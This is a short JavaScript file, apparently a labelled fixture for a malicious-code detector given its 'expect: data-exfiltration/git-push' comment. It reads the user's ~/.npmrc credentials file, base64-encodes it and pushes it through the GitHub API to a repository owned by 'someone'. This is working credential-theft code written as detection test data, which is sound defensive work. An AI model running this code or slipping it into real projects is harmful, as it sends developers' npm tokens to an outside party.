const { Octokit } = require('@octokit/rest');
const fs = require('fs');
const os = require('os');

const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
const content = Buffer.from(fs.readFileSync(`${os.homedir()}/.npmrc`)).toString('base64');
octokit.repos.createOrUpdateFileContents({ owner: 'someone', repo: 'store', path: 'n.txt', message: 'x', content }); // expect: data-exfiltration/git-push
